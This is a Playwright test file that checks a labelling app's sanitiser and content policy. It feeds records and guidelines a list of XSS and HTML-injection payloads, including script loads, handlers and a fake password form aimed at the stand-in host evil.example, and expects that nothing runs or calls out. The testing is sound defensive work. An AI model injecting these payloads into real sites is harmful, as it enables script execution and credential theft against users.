/** Record text, labels, titles, guidelines are data: whatever they contain, nothing runs, moves or calls home. */
import type { BrowserContext, Page } from "@playwright/test"
import { annotatePage } from "./lib/annotate-page.ts"
import { createCampaign, textField } from "./lib/campaigns.ts"
import { createTeam } from "./lib/people.ts"
import { expect, test } from "./lib/test.ts"

const home = "http://evil.example"

/** Each sets `pwned` or calls home if anything about it comes alive. */
const payloads: readonly string[] = [
  "<script>window.pwned = 'script'</script>",
  `<script src="${home}/s.js"></script>`,
  `<img src=x onerror="window.pwned = 'onerror'">`,
  `<img src="${home}/pixel.png">`,
  `![pixel](${home}/markdown.png)`,
  `<svg onload="window.pwned = 'svg'"><script>window.pwned = 'svg script'</script></svg>`,
  `<svg><style><img src=x onerror="window.pwned = 'mutation'"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned='math'&gt;">`,
  `<a href="javascript:window.pwned='link'">a link</a>`,
  "[markdown link](javascript:window.pwned='markdown')",
  "[encoded link](&#106;avascript&colon;window.pwned='encoded')",
  `[data link](data:text/html,<script>window.pwned='data'</script>)`,
  `<iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe><iframe src="${home}/frame"></iframe>`,
  `<object data="${home}/o.swf"></object><embed src="${home}/e.swf">`,
  `<form action="${home}/form" id="theft"><input name="password" autofocus><button>Sign in again</button></form>`,
  `<style>@import "${home}/style.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="${home}/link.css"><link rel="prefetch" href="${home}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=${home}/meta"><base href="${home}/">`,
  `<div style="position:fixed;inset:0;background:url(${home}/inline.png)" onmouseover="window.pwned='hover'">over all</div>`,
  `<video src="${home}/v.mp4" poster="${home}/poster.png" onerror="window.pwned='video'" autoplay></video>`,
  `<details open ontoggle="window.pwned='toggle'"><summary>open</summary></details>`,
  `<input autofocus onfocus="window.pwned='focus'"><button formaction="javascript:window.pwned='formaction'">b</button>`,
  `<a id="main" name="getElementById" href="//evil.example" ping="${home}/ping">clobber</a>`,
  "{{constructor.constructor('window.pwned=1')()}} \u0024{window.pwned = 'template'}",
  `"><script>window.pwned='attribute'</script>`,
  "\u202e gnp.exe <b onclick=window.pwned='bidi'>bold</b> \u0000\u001b[31m",
]

/** An open comment would swallow what comes after it; it stands alone in a record of its own. */
const all = payloads
  .filter((each) => !each.includes("<!--"))
  .join("\n\n")
  .replaceAll("\u0000", "")

/** What must stay silent: dialogs, requests to elsewhere, navigations, windows, violations of the content policy. */
async function listen(context: BrowserContext, page: Page, own: string): Promise<string[]> {
  const heard: string[] = []
  await page.addInitScript(() => {
    const violations: string[] = []
    Object.assign(window, { violations })
    // Also heard of markup that the sanitiser looks at outside of any page: handlers, base addresses and styles, never loads.
    const outsideOfThePage = ["script-src-attr", "base-uri", "script-src", "style-src-elem", "style-src-attr"]
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      if (!outsideOfThePage.includes(effectiveDirective))
        violations.push(`${effectiveDirective} ${blockedURI}`)
    })
  })
  context.on("page", () => heard.push("a window opened"))
  context.on("dialog", (dialog) => {
    heard.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  context.on("request", (request) => {
    const { protocol, origin } = new URL(request.url())
    if (origin !== own && protocol !== "data:" && protocol !== "blob:")
      heard.push(`request: ${request.url()}`)
  })
  page.on("framenavigated", (frame) => {
    if (frame !== page.mainFrame() || !frame.url().startsWith(own)) heard.push(`navigation: ${frame.url()}`)
  })
  return heard
}

/** The remains of markup that no content may leave behind, wherever on the page it is shown. */
const dangerous = [
  ..."script style iframe object embed form link meta base svg math video audio".split(" "),
  ...["[style]", "[id]", "[name]", '[href^="javascript" i]', '[href^="data" i]', "[ping]", "[srcset]"],
  ...["onerror", "onload", "onclick", "onmouseover", "ontoggle", "onfocus"].map((name) => `[${name}]`),
  ...['img:not([src^="data:image/"])', "input:not([type=checkbox])", "button"],
]

async function expectHarmless(page: Page, heard: readonly string[]) {
  await page.waitForTimeout(300)
  const state = await page.evaluate(() => {
    const { pwned, violations } = window as unknown as { pwned?: string; violations: string[] }
    return { pwned: pwned ?? null, violations }
  })
  expect(heard, "what the content made the browser do").toEqual([])
  expect(state, "what ran, and what the content policy had to hold back").toEqual({
    pwned: null,
    violations: [],
  })
}

test("hostile text, markdown, labels, titles or guidelines run, navigate, restyle or call home", async ({
  loam,
  visit,
}) => {
  const { workspace, labelers } = await createTeam(loam, ["<b>ada</b>"])
  const title = (text: string) => `${text} ${payloads[2]} ${payloads[8]}`
  const options = payloads
    .slice(0, 12)
    .map((text, index) => ({ value: `${index} ${text}`.slice(0, 200), text }))
  const { dataset, records } = await createCampaign(loam.owner, workspace, {
    name: `Hostile ${payloads[2]}`,
    guidelines: all.slice(0, 10_000),
    fields: [
      { ...textField("plain"), title: title("Plain") },
      { ...textField("formatted", true), title: title("Formatted") },
    ],
    questions: [
      {
        name: "label",
        title: title("Label"),
        description: all.slice(0, 1_000),
        required: true,
        settings: { type: "label_selection", options },
      },
      { name: "comment", title: "Comment", required: false, settings: { type: "text", use_markdown: true } },
    ],
    records: [
      { fields: { plain: all, formatted: all }, external_id: payloads[2] ?? "", metadata: { note: all } },
      ...payloads.map((each) => ({ fields: { plain: "p", formatted: each.replaceAll("\u0000", "") } })),
    ],
  })
  const { items } = await loam.owner.questions.list({ dataset_id: dataset.id })
  await loam.owner.suggestions.upsert({
    record_id: records[0]?.id ?? "",
    body: { question_id: items[1]?.id ?? "", value: all, agent: "an agent", score: 0.5 },
  })
  const page = await visit(labelers[0] ?? null, { styledContent: true })
  const heard = await listen(page.context(), page, loam.url)
  const annotate = annotatePage(page)
  await annotate.open(dataset.id)
  await expect(annotate.record).toContainText("<script>window.pwned = 'script'</script>")
  await expect(page.locator("[data-blocked-image]").first(), "markdown has been formatted").toBeVisible()
  await page.getByRole("button", { name: "Preview" }).click()
  if (!(await page.getByRole("complementary", { name: "Guidelines" }).isVisible()))
    await page.keyboard.press("g")
  await expect(page.getByRole("complementary", { name: "Guidelines" })).toContainText("over all")
  await expectHarmless(page, heard)

  // Formatted text stands in elements of its own, beside which nothing of the page's has these attributes.
  const formatted = page.locator(
    "[data-record-id] [class*=markdown], aside [class*=markdown], main [class*=preview]",
  )
  expect(await formatted.count()).toBeGreaterThanOrEqual(3)
  for (const selector of dangerous) expect(await formatted.locator(selector).count(), selector).toBe(0)

  for (const link of await formatted.locator("a:not([href])").all()) await link.click({ force: true })
  for (const name of ["What you did", "About this record"]) {
    await page.getByRole("button", { name }).click()
    await expectHarmless(page, heard)
  }
  // Every record once on screen, each payload by itself.
  for (let index = 0; index < 12; index += 1) {
    await page.keyboard.press("Escape")
    await annotate.goingOn(() => page.keyboard.press("ArrowRight"))
  }
  await page.mouse.move(400, 400)
  await expectHarmless(page, heard)
  await page.getByRole("link", { name: "Loam, home" }).click()
  await expect(page.getByText(`Hostile ${payloads[2]}`).first()).toBeVisible()
  await expectHarmless(page, heard)
})

test("a link in formatted text takes the page away, or tells where it was followed from", async ({
  loam,
  visit,
}) => {
  const { workspace, labelers } = await createTeam(loam, ["ada"])
  const { dataset } = await createCampaign(loam.owner, workspace, {
    fields: [textField("prompt", true)],
    questions: [{ name: "answer", title: "Answer", required: true, settings: { type: "text" } }],
    records: [{ fields: { prompt: `See [the source](${home}/page) for more.` } }],
  })
  const page = await visit(labelers[0] ?? null)
  const annotate = annotatePage(page)
  await annotate.open(dataset.id)
  const referrers: (string | undefined)[] = []
  await page.context().route(`${home}/**`, async (route) => {
    referrers.push(route.request().headers().referer)
    await route.fulfill({
      body: "<script>document.title = String(window.opener)</script>",
      contentType: "text/html",
    })
  })
  const [opened] = await Promise.all([
    page.context().waitForEvent("page"),
    page.getByRole("link", { name: "the source" }).click(),
  ])
  await expect(opened).toHaveTitle("null")
  expect(referrers).toEqual([undefined])
  await expect(annotate.record).toBeVisible()
})
